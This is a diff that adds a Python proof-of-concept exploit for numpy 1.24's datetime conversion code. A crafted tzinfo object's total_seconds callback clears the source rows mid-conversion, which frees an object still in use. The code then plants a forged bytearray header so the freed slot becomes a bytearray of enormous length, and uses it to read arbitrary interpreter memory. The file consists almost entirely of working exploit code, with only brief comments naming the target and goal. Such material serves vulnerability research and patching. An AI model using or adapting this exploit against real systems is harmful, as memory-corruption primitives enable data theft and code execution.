@@ -1,0 +1,67 @@
+# source: numpy 1.24 _datetime.c convert_pydatetime_to_datetimestruct PyObject_CallMethod(offset, "total_seconds"); VOID_setitem borrowed row
+# family: same family, method total_seconds of the offset utcoffset returns
+# goal: arbitrary memory read through a fake bytearray
+import numpy as np
+import datetime
+
+MASK = (1 << 64) - 1
+
+
+def addr_of_type(t):
+    h = hash(t) & MASK
+    return ((h << 4) | (h >> 60)) & MASK
+
+
+def q(v):
+    return (v & MASK).to_bytes(8, "little")
+
+
+keep = []
+state = {"done": False}
+rows = []
+L = 2000
+fake = q(1 << 40) + q(addr_of_type(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
+fake = fake + bytes(L + 32 - len(fake))
+
+
+def trigger(obj):
+    if not state["done"]:
+        state["done"] = True
+        keep.append(obj)
+        rows.clear()
+        keep.append(bytearray(fake))
+
+
+class Offset:
+    def __init__(self, when):
+        self.when = when
+
+    def total_seconds(self):
+        trigger(self.when)
+        return 3600.0
+
+
+class Zone:
+    def utcoffset(self, when):
+        return Offset(when)
+
+
+class Stamp:
+    year = 2000
+    month = 1
+    day = 1
+    hour = 0
+    minute = 0
+    second = 0
+    microsecond = 0
+
+    def __init__(self):
+        self.tzinfo = Zone()
+
+rows.append((Stamp(), bytes(L)))
+arr = np.array(rows, dtype=[("d", "M8[us]"), ("o", "O")])
+f = arr[0]["o"]
+print(type(f), len(f) > 10**15)
+base = addr_of_type(int)
+p = int.from_bytes(bytes(f[base + 24:base + 32]), "little")
+print("tp_name of int read from memory:", bytes(f[p:p + 3]))
